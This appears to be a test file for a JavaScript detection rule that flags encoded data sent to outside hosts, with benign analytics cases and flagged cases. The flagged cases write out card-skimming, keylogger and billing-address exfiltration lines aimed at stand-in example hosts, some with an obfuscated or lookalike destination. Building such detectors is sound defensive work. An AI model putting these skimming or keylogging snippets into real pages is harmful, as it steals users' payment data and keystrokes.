import rule from './encoding-before-send.js';
import { ruleTable } from '../test/helpers/rule-table.js';

ruleTable(rule, {
  valid: [
    { name: 'HTTP client: a form passed as data sent as FormData, a Basic Authorization header built with btoa in the same request object (axios)', code: "function dispatch(c) { if (isHTMLForm(c.data)) c.data = new FormData(c.data); var req = { headers: {}, body: c.data }; if (c.auth) req.headers.Authorization = 'Basic ' + btoa(c.auth.username + ':' + c.auth.password); var x = new XMLHttpRequest(); x.open(c.method, c.baseURL + c.url); x.send(req.body); }" },
    "fetch('/api', {method:'POST', body: btoa(data)});",
    "var s = btoa(str); console.log(s);",
    "var r = [1,2,3].reverse(); fetch('https://x.example/', {method:'POST', body: r});",
    // near misses from analytics SDKs: they encode their own event payloads for their own hosts
    { name: 'mixpanel: btoa(JSON) -> XHR to the configured api_host', code: "var data = btoa(JSON.stringify(events)); var req = new XMLHttpRequest(); req.open('POST', this.get_config('api_host') + '/track/', true); req.send('data=' + data);" },
    { name: 'amplitude: r.btoa(payload) -> fetch(serverUrl)', code: "var r = window; fetch(this.config.serverUrl, {method: 'POST', body: r.btoa(JSON.stringify(payload))});" },
    { name: 'posthog: XOR/compression encoder -> sendBeacon to a computed URL', code: "function enc(s){ var o=''; for (var i=0;i<s.length;i++) o += String.fromCharCode(s.charCodeAt(i) ^ 7); return o; } navigator.sendBeacon(config.api_host + '/e/?compression=xor', enc(JSON.stringify(batch)));" },
    { name: 'axios: Basic auth header, request to the caller URL', code: "var auth = 'Basic ' + btoa(user + ':' + pass); var x = new XMLHttpRequest(); x.open(method, fullPath, true); x.setRequestHeader('Authorization', auth); x.send(body);" },
    { name: 'segment: base64 id in a literal CDN URL', code: "var s = document.createElement('script'); s.setAttribute('src', 'https://cdn.analytics-vendor.example/v1/' + btoa(writeKey) + '/settings');" },
  ],
  invalid: [
    { code: "new Image().src = 'https://s.example/p?d=' + btoa(JSON.stringify(info));", messageIds: ['encoded'], severity: 'low' },
    { code: "var v = document.getElementById('cc-number').value; navigator.sendBeacon('https://s.example/b', btoa(v));", messageIds: ['payment'], severity: 'high' },
    { code: "function enc(s){ var o=''; for (var i=0;i<s.length;i++) o += String.fromCharCode(s.charCodeAt(i) ^ 7); return o; } fetch('https://s.example/', {method:'POST', body: enc(data)});", messageIds: ['encoded'] },
    { name: 'hidden destination', code: "var u = atob('aHR0cHM6Ly9zLmV4YW1wbGUvYw=='); fetch(u, {method:'POST', body: btoa(JSON.stringify(info))});", messageIds: ['encoded'], severity: 'medium' },
    { name: 'lookalike destination', code: "new Image().src = 'https://google-analytics-cdn.example/p?d=' + btoa(JSON.stringify(info));", messageIds: ['encoded'], severity: 'medium' },
    { name: 'keylogger', code: "var keys = ''; document.addEventListener('keydown', function (e) { keys += e.key; }); setInterval(function () { navigator.sendBeacon('https://k.example/', btoa(keys)); }, 5000);", messageIds: ['payment'], severity: 'high' },
    { name: 'staged in storage, sent later', code: "localStorage.setItem('c', document.getElementById('cc-number').value); var v = localStorage.getItem('c'); new Image().src = 'https://x.example/p?d=' + btoa(v);", messageIds: ['payment'], severity: 'high' },
    { name: 'personal data', code: "var h = document.getElementById('billing_address_1').value; fetch('https://x.example/', {method:'POST', body: btoa(h)});", messageIds: ['personal'], severity: 'medium' },
  ],
});
